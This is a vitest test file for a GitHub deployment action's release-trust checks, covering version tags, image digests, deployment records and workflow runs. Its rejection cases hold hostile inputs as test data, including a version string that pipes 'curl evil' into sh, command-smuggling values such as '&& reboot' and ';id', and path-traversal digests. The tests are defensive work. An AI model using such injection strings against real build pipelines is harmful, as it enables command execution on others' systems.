// What the action accepts from labels and GitHub records: the input rules, the configured image,
// and for deployment records the creator and the marker.
import { describe, expect, it } from 'vitest';
import type { DeploymentRecord } from '../../src/release/history.js';
import { checkContainerRelease, checkImageRelease, digestProblem, recordProblem, runProblem, statusState, trustedRecords, versionProblem, workflowPath, type StatusRecord } from '../../src/release/trust.js';

const A = `sha256:${'a'.repeat(64)}`;
const B = `sha256:${'b'.repeat(64)}`;
const REPO = 'registry.example.com/clay/mobile';

describe('versionProblem', () => {
  it.each(['v1.4.0', '1.4.0', 'v2.0.0-rc.1'])('accepts %j', (value) => {
    expect(versionProblem(value)).toBeUndefined();
  });

  it.each<[string, unknown]>([
    ['shell text', 'v1.0.0$(curl evil|sh)'],
    ['a newline (a second output line)', 'v1.0.0\nimage-ref=evil'],
    ['build metadata', 'v1.0.0+build.5'],
    ['a path', '../../v1.0.0'],
    ['empty', ''],
    ['a number', 7],
    ['missing', undefined],
  ])('refuses %s', (_case, value) => {
    expect(versionProblem(value)).toMatch(/is not a release tag$/);
  });
});

describe('digestProblem', () => {
  it('accepts sha256 and 64 lowercase hex digits', () => {
    expect(digestProblem(A)).toBeUndefined();
  });

  it.each<[string, unknown]>([
    ['too short', 'sha256:aaa'],
    ['upper case', `sha256:${'A'.repeat(64)}`],
    ['another algorithm', `sha512:${'a'.repeat(64)}`],
    ['a path after it', `${A}/../../containers/create`],
    ['missing', undefined],
  ])('refuses %s', (_case, value) => {
    expect(digestProblem(value)).toMatch(/is not sha256:<64 hex digits>$/);
  });
});

describe('checkContainerRelease', () => {
  it.each<[string, { version?: string; digest?: string }, string, string | undefined, ReturnType<typeof checkContainerRelease>]>([
    ['the action\'s own container', { version: 'v1.4.0', digest: A }, `${REPO}@${A}`, REPO, { trusted: { version: 'v1.4.0', digest: A, ref: `${REPO}@${A}` } }],
    ['run by tag: pinned to the label\'s digest', { version: 'v1.4.0', digest: A }, `${REPO}:v1.4.0`, REPO, { trusted: { version: 'v1.4.0', digest: A, ref: `${REPO}@${A}` } }],
    ['another repository', { version: 'v1.4.0', digest: A }, `evil.example/mobile@${A}`, REPO, { untrusted: `image "evil.example/mobile@${A}" is not of ${REPO}` }],
    ['a repository that only starts like it', { version: 'v1.4.0', digest: A }, `${REPO}-x@${A}`, REPO, { untrusted: `image "${REPO}-x@${A}" is not of ${REPO}` }],
    ['an image pinned to another digest than the label', { version: 'v1.4.0', digest: A }, `${REPO}@${B}`, REPO, { untrusted: `image "${REPO}@${B}" is not pinned to the digest label` }],
    ['a bad version and digest, both said', { version: 'latest', digest: 'sha256:1' }, `${REPO}:latest`, REPO, { untrusted: 'version "latest" is not a release tag; digest "sha256:1" is not sha256:<64 hex digits>' }],
    ['no configured image given: the form only', { version: 'v1.4.0', digest: A }, `other/app@${A}`, undefined, { trusted: { version: 'v1.4.0', digest: A, ref: `other/app@${A}` } }],
  ])('%s', (_case, labels, image, repository, expected) => {
    expect(checkContainerRelease(labels, image, repository)).toEqual(expected);
  });
});

describe('checkImageRelease', () => {
  it.each<[string, string, string, ReturnType<typeof checkImageRelease>]>([
    ['an image the action built', 'v1.3.0', `${REPO}@${A}`, { trusted: { version: 'v1.3.0', digest: A, ref: `${REPO}@${A}` } }],
    ['a version label that is no tag', 'v1.3.0 && reboot', `${REPO}@${A}`, { untrusted: 'version "v1.3.0 && reboot" is not a release tag' }],
  ])('%s', (_case, version, ref, expected) => {
    expect(checkImageRelease(version, ref, REPO)).toEqual(expected);
  });
});

/** A record as the action writes it, with `changes` applied. */
function record(changes: Partial<DeploymentRecord> & { payloadChanges?: Record<string, string | undefined> } = {}): DeploymentRecord {
  const { payloadChanges = {}, ...rest } = changes;
  return {
    id: 1,
    ref: 'v1.4.0',
    task: 'deploy',
    createdAt: new Date('2026-01-01T00:00:00Z'),
    creator: 'github-actions[bot]',
    payload: { version: 'v1.4.0', image: REPO, digest: A, recordedBy: 'clay/deploy-action', ...payloadChanges },
    state: 'success',
    ...rest,
  };
}

describe('recordProblem', () => {
  it.each<[string, DeploymentRecord, string | undefined]>([
    ['the action\'s own record', record(), undefined],
    ['a rollback record', record({ task: 'rollback' }), undefined],
    ['created by a person', record({ creator: 'mallory' }), 'created by "mallory", not github-actions[bot]'],
    ['created by another app', record({ creator: 'vercel[bot]' }), 'created by "vercel[bot]", not github-actions[bot]'],
    ['without a creator (a deleted account)', record({ creator: undefined }), 'created by "nobody", not github-actions[bot]'],
    ['without the marker', record({ payloadChanges: { recordedBy: undefined } }), 'its payload has no recorded_by: clay/deploy-action'],
    ['another marker', record({ payloadChanges: { recordedBy: 'someone/else' } }), 'its payload has no recorded_by: clay/deploy-action'],
    ['another image', record({ payloadChanges: { image: 'evil.example/mobile' } }), `image "evil.example/mobile" is not ${REPO}`],
    ['a version that is shell text', record({ ref: 'v1;id', payloadChanges: { version: 'v1;id' } }), 'version "v1;id" is not a release tag'],
    ['a digest that is no digest', record({ payloadChanges: { digest: 'sha256:zz' } }), 'digest "sha256:zz" is not sha256:<64 hex digits>'],
    ['a ref other than its version', record({ ref: 'main' }), 'ref "main" is not its version'],
  ])('%s', (_case, given, expected) => {
    expect(recordProblem(given, REPO)).toBe(expected);
  });
});

describe('trustedRecords', () => {
  it('keeps the order of the trusted, reports the untrusted, and passes over records with no release payload', () => {
    const records = [
      record({ id: 4 }),
      record({ id: 3, creator: 'mallory' }),
      record({ id: 2, payload: {} }), // GitHub's own record of a job bound to the environment
      record({ id: 1, ref: 'v1.3.0', payloadChanges: { version: 'v1.3.0' } }),
    ];
    const { trusted, untrusted } = trustedRecords(records, REPO);
    expect(trusted.map((r) => r.id)).toEqual([4, 1]);
    expect(untrusted).toEqual([{ id: 3, reason: 'created by "mallory", not github-actions[bot]' }]);
  });
});

describe('statusState', () => {
  const bot = 'github-actions[bot]';
  const s = (state: StatusRecord['state'], creator?: string): StatusRecord => ({ state, creator });

  it.each<[string, StatusRecord[], StatusRecord['state'], number]>([
    ['our newest status', [s('success', bot), s('in_progress', bot)], 'success', 0],
    ["a person's success over our failure counts for nothing", [s('success', 'mallory'), s('failure', bot), s('in_progress', bot)], 'failure', 1],
    ['an inactive GitHub added over our success', [s('inactive', bot), s('success', bot)], 'inactive', 0],
    ['an inactive over our failure is not a success', [s('inactive', bot), s('failure', bot)], 'failure', 0],
    ["a person's inactive over our failure", [s('inactive', 'mallory'), s('failure', bot)], 'failure', 1],
    ['no status of ours at all', [s('success', 'mallory'), s('success', undefined)], 'none', 2],
    ['no status', [], 'none', 0],
  ])('%s', (_case, statuses, state, ignored) => {
    expect(statusState(statuses)).toEqual({ state, ignored: statuses.filter((x) => x.creator !== bot) });
    expect(statusState(statuses).ignored).toHaveLength(ignored);
  });
});

describe('workflowPath', () => {
  it.each([
    ['clay/demo/.github/workflows/release.yml@refs/tags/v1.5.0', '.github/workflows/release.yml'],
    ['clay/demo/.github/workflows/a@b.yml@refs/heads/main', '.github/workflows/a@b.yml'],
    ['other/repo/.github/workflows/release.yml@refs/tags/v1.5.0', undefined],
    ['clay/demo/@refs/tags/v1.5.0', undefined],
    ['clay/demo/.github/workflows/release.yml', undefined],
    ['', undefined],
  ])('%j → %j', (ref, expected) => {
    expect(workflowPath(ref, 'clay/demo')).toBe(expected);
  });
});

describe('runProblem', () => {
  const expected = { path: '.github/workflows/release.yml', tag: 'v1.5.0' };
  it.each([
    [{ path: '.github/workflows/release.yml', event: 'push', headBranch: 'v1.5.0' }, undefined],
    [{ path: '.github/workflows/other.yml', event: 'push', headBranch: 'v1.5.0' }, 'its workflow is ".github/workflows/other.yml", not ".github/workflows/release.yml"'],
    [{ path: '.github/workflows/release.yml', event: 'push', headBranch: 'main' }, 'it ran for "main", not the tag v1.5.0'],
    [{ path: '.github/workflows/release.yml', event: 'workflow_dispatch', headBranch: 'v1.5.0' }, 'it was started by "workflow_dispatch", not a push of v1.5.0'],
    [{}, 'its workflow is "unknown", not ".github/workflows/release.yml"; it was started by "unknown", not a push of v1.5.0'],
    [{ path: '.github/workflows/release.yml', event: 'push' }, 'it ran for "unknown", not the tag v1.5.0'],
  ])('%j → %j', (run, problem) => {
    expect(runProblem(run, expected)).toBe(problem);
  });
});
